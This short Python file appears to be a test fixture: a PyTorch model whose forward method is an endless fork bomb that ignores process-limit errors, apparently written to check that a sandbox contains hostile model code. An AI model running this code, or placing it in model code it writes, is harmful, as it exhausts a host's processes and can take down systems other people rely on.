"""Hostile: forks forever in forward, in every child too, and shrugs off EAGAIN."""

import os

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(64, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        while True:
            try:
                os.fork()
            except OSError:
                pass  # the pids cap says no; keep asking
